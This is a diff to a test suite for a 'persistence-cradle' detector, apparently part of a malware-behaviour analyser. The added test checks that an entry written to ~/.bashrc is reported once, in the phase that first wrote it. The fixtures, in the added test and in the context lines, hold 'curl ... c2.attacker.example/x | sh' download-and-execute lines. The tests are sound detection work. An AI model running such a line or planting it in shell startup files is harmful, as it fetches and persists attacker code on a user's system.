@@ -54,6 +54,13 @@ describe('persistence-cradle', () => {
     expect(result.verdict).toBe('malicious');
   });
 
+  it('names an entry once, in the phase that first wrote it, when a later phase rewrites it', () => {
+    const line = 'curl -fsSL http://c2.attacker.example/x | sh';
+    const b = withContents(new BehaviorBuilder(), captured(`${HOME}/.bashrc`, `${line}\n`), captured(`${HOME}/.bashrc`, `${line}\n${line}\n`, { phase: 'idle', sha256: 'c'.repeat(64) }));
+    const found = fired(run(b), 'persistence-cradle');
+    expect(found.map((f) => f.phase)).toEqual(['install']);
+  });
+
   it('does not fire for a persistence entry without a payload, nor for a dropped script', () => {
     const b = withContents(new BehaviorBuilder(), captured(`${HOME}/.profile`, 'export EDITOR=vim\n'), captured('/tmp/x.sh', 'curl http://c2.attacker.example/x | sh', { reason: 'script' }));
     expect(fired(run(b), 'persistence-cradle')).toHaveLength(0);
